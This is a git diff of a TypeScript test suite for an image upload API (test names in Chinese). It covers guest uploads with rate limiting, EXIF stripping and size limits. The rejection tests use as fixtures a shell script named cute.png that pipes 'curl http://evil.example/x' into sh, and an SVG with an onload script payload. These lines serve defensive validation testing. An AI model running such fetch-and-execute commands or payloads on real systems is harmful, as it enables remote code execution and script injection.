@@ -7,6 +7,7 @@ import { bearer, createAccount } from './helpers/accounts';
 import { call } from './helpers/http';
 import { uploadImage } from './helpers/upload';
 import { useTestServer } from './helpers/server';
+import { GUEST_UPLOAD_LIMIT } from '../src/modules/upload/routes';
 
 /** Whether a TIFF/EXIF block (as sharp's metadata().exif gives it) has a GPS IFD pointer (tag 0x8825) in IFD0. */
 function hasGpsIfd(exif: Buffer): boolean {
@@ -41,29 +42,41 @@ describeEachEngine('图片上传', (engine) => {
     token = await server.tokenFor(await createAccount(server.db, 'uploader_01', 'abc12345'));
   });
 
-  it('未登录 → 401，不存文件', async () => {
-    const response = await uploadImage(server, await jpegWithGps());
-    expect(response.status).toBe(401);
-    expect(response.body).toEqual({ code: 401, message: '请先登录', result: null });
-    expect(await stored()).toEqual([]);
+  it('游客也能上传（原版客户端游客发布留言时先传背景图），每个地址 10 分钟 10 张；失效的 token → 401', async () => {
+    const guest = await uploadImage(server, await jpegWithGps());
+    expect(guest.status).toBe(200);
+    expect(guest.body.result!.url).toMatch(/^\/uploads\/img\/[0-9a-f]{64}\.webp$/);
+    const junk = Buffer.from('not an image');
+    for (let i = 1; i < GUEST_UPLOAD_LIMIT.max; i++) expect((await uploadImage(server, junk)).status).toBe(400);
+    const blocked = await uploadImage(server, await jpegWithGps());
+    expect(blocked.status).toBe(429);
+    // A logged-in user from the same address is counted on their own.
+    expect((await uploadImage(server, junk, { token })).status).toBe(400);
+
+    const before = await stored();
+    const expired = await uploadImage(server, await jpegWithGps(), { token: 'not-a-real-token' });
+    expect(expired.status).toBe(401);
+    expect(await stored()).toEqual(before);
   });
 
   it('改名成 .png 的脚本 → 400「只支持 JPG、PNG、WEBP、GIF 图片」，不存文件', async () => {
+    const before = await stored();
     const script = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
     const response = await uploadImage(server, script, { token, filename: 'cute.png', contentType: 'image/png' });
     expect(response.status).toBe(400);
     expect(response.body).toEqual({ code: 400, message: '只支持 JPG、PNG、WEBP、GIF 图片', result: null });
     const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>');
     expect((await uploadImage(server, svg, { token, filename: 'a.svg', contentType: 'image/svg+xml' })).body.message).toBe('只支持 JPG、PNG、WEBP、GIF 图片');
-    expect(await stored()).toEqual([]);
+    expect(await stored()).toEqual(before);
   });
 
   it('开头像 JPEG 但内容损坏 → 400，不存文件', async () => {
+    const before = await stored();
     const broken = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(200, 7)]);
     const response = await uploadImage(server, broken, { token, filename: 'x.jpg' });
     expect(response.status).toBe(400);
     expect(response.body.message).toBe('图片已损坏，无法读取');
-    expect(await stored()).toEqual([]);
+    expect(await stored()).toEqual(before);
   });
 
   it('带 GPS 的 JPEG：存成 WebP，EXIF 全部去掉，名字是内容的 SHA-256', async () => {
@@ -119,12 +132,12 @@ describeEachEngine('图片上传', (engine) => {
     expect(meta.pages).toBe(3);
   });
 
-  it('超过 5MB → 413「图片不能超过 5MB」，不存文件', async () => {
+  it('超过 5MB → HTTP 200、code 100「图片不能超过 5MB」（两个客户端都显示这句提示），不存文件', async () => {
     const before = await stored();
     const huge = Buffer.concat([await jpegWithGps(), Buffer.alloc(5 * 1024 * 1024 + 10, 1)]);
     const response = await uploadImage(server, huge, { token, filename: 'huge.jpg' });
-    expect(response.status).toBe(413);
-    expect(response.body).toEqual({ code: 413, message: '图片不能超过 5MB', result: null });
+    expect(response.status).toBe(200);
+    expect(response.body).toEqual({ code: 100, message: '图片不能超过 5MB', result: null });
     expect(await stored()).toEqual(before);
   });
 
